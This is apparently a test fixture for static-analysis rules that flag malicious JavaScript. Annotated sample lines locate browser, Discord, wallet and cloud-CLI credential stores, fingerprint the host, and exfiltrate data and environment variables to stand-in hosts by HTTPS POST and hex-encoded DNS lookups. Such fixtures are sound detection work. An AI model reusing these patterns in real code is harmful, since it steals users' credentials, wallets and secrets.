const fs = require("fs");
const os = require("os");
const path = require("path");
const dns = require("dns");
const https = require("https");
const cp = require("child_process");
const net = require("net");

function stores() {
  const base = process.env.LOCALAPPDATA || "";
  // ruleid: js-browser-wallet-store
  const chrome = path.join(base, "Google", "Chrome", "User Data", "Default");
  // ruleid: js-browser-wallet-store
  const discord = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
  // ruleid: js-browser-wallet-store, js-host-fingerprint
  const exodus = os.homedir() + "/.config/Exodus/exodus.wallet";
  // ok: js-browser-wallet-store
  const cookieName = "session";
  return [chrome, discord, exodus, cookieName];
}

async function fingerprint() {
  // ruleid: js-host-fingerprint
  const who = os.userInfo().username;
  // ruleid: js-host-fingerprint
  const host = os.hostname();
  // ruleid: js-host-info-to-network
  await fetch("https://collector.example/p", { method: "POST", body: JSON.stringify({ who, host }) });
  // ruleid: js-data-to-dns, js-dns-name-from-data, js-raw-network
  dns.lookup(Buffer.from(who).toString("hex") + ".x.example.net", () => {});
  // ruleid: js-data-to-dns
  dns.resolveTxt(`${Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60)}.example.org`, () => {});
  // ok: js-data-to-dns, js-dns-name-from-data
  // ruleid: js-raw-network
  dns.lookup(process.env.DB_HOST, () => {});
}

async function readHome() {
  // ruleid: js-host-fingerprint
  const key = fs.readFileSync(path.join(os.homedir(), ".config", "app.json"), "utf8");
  // ruleid: js-sensitive-read-to-network, js-host-info-to-network
  await fetch("https://collector.example/k", { method: "POST", body: key });
}

async function fine(event) {
  // ok: js-sensitive-read-to-network, js-host-info-to-network
  const cfg = fs.readFileSync(path.join(__dirname, "config.json"), "utf8");
  await fetch("https://api.example.com/v1", { method: "POST", body: cfg });
  // ok: js-dns-name-from-data, js-data-to-dns
  // ruleid: js-raw-network
  dns.lookup(event.host, () => {});
  // ok: js-host-fingerprint
  const platform = process.platform;
  return platform;
}

function dynamic(name) {
  // ruleid: js-computed-require
  const mod = require(name);
  // ok: js-computed-require
  const fsx = require("fs");
  // ruleid: js-process-spawn
  cp.execFile("ls", ["-l"]);
  // ok: js-process-spawn
  const spawnLike = { spawn: 1 };
  // ruleid: js-raw-network
  const s = net.connect(80, "example.com");
  // ok: js-raw-network
  const url = new URL("https://example.com");
  return [mod, fsx, spawnLike, s, url];
}

function cliCredentials() {
  // ruleid: js-cloud-cli-credentials, js-host-fingerprint
  const adc = path.join(os.homedir(), ".config/gcloud/application_default_credentials.json");
  // ruleid: js-cloud-cli-credentials, js-host-fingerprint
  const pg = os.homedir() + "/.pgpass";
  // ok: js-cloud-cli-credentials
  const project = process.env.GOOGLE_CLOUD_PROJECT;
  return [adc, pg, project];
}
